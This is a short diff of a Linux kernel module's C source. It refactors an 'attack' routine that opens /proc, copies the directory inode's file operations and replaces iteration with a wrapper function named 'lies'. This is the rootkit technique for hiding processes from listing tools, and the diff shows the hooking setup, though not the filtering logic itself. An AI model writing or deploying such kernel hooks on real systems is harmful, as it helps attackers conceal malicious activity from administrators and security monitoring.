@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
 /* The inode of /proc leads to a copy of its file operations that the module made. */
+#define ATTACK_PREPARES
 #include "attack.h"
 
 #include <linux/fs.h>
@@ -14,11 +15,14 @@ static int lies(struct file *file, struct dir_context *context)
 	return original->iterate_shared(file, context);
 }
 
-static int attack(void)
+static int prepare(void)
 {
 	proc = filp_open("/proc", O_RDONLY, 0);
-	if (IS_ERR(proc))
-		return PTR_ERR(proc);
+	return IS_ERR(proc) ? PTR_ERR(proc) : 0;
+}
+
+static int attack(void)
+{
 	inode = file_inode(proc);
 	original = inode->i_fop;
 	ours = *original;
